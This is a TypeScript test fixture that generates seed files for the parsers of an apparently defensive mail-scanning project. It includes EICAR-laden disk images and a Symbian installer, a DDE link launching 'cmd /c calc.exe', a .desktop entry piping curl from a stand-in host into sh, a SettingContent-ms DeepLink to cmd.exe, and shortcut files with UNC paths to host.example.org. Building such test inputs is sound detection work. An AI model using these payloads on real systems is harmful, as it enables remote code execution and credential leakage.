/** Files of kinds that none of the project's mails has in it. */
import { deflateSync } from "node:zlib";
import { buildFat, buildGptDisk, buildMbrDisk, buildVhd } from "../../test/support/build-images.ts";
import { eicar } from "../../test/support/eicar.ts";

/** By the name of the parser. */
export function fileSeeds(): Map<string, Buffer[]> {
  const volume = buildFat("A.TXT", eicar());
  return new Map([
    ["extractor-lzip", [Buffer.concat([LZIP, LZIP])]],
    ["extractor-disk-image", [buildMbrDisk(volume), buildGptDisk(volume), buildVhd(buildMbrDisk(volume))]],
    ["extractor-Symbian-installer", [symbianInstaller()]],
    ["extractor-opaque", [Buffer.from("StuffIt (c) and more"), Buffer.from("414c5a0100000000", "hex")]],
    ["extractor-shell-file", SHELL_FILES.map((text) => Buffer.from(text))],
    ["extractor-biff12", [externalLink("cmd", "/c calc.exe")]],
  ]);
}

function symbianInstaller(): Buffer {
  const header = Buffer.alloc(68);
  header.writeUInt32LE(0x10000419, 8);
  const file = deflateSync(eicar());
  return Buffer.concat([header, file, file]);
}

/** BrtBeginSupBook [MS-XLSB 2.4.287] of a DDE link. */
function externalLink(service: string, topic: string): Buffer {
  const words = [service, topic].map((word) => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(word.length);
    return Buffer.concat([length, Buffer.from(word, "utf16le")]);
  });
  const data = Buffer.concat([Buffer.from([1, 0]), ...words]);
  return Buffer.concat([Buffer.from([0xe8, 0x02, data.length]), data]);
}

/** The word "lzip", as the program of that name packs it. */
const LZIP = Buffer.from(
  "4c5a4950010c00361e8956ba0977fffffb3c0000f3dbe8ed0400000000000000" + "2800000000000000",
  "hex",
);
const SHELL_FILES = [
  "[InternetShortcut]\r\nURL=file://host.example.org/share/a.exe\r\nIconFile=\\\\host.example.org\\a.ico\r\n",
  "[Shell]\r\nCommand=2\r\nIconFile=\\\\host.example.org\\share\\a.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
  "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://host.example.org | sh'\n",
  '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>\\\\host.example.org\\a</url></libraryDescription>',
  '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></SearchableContent></PCSettings>',
  "WEB\r\n1\r\nhttp://host.example.org/query\r\n",
];
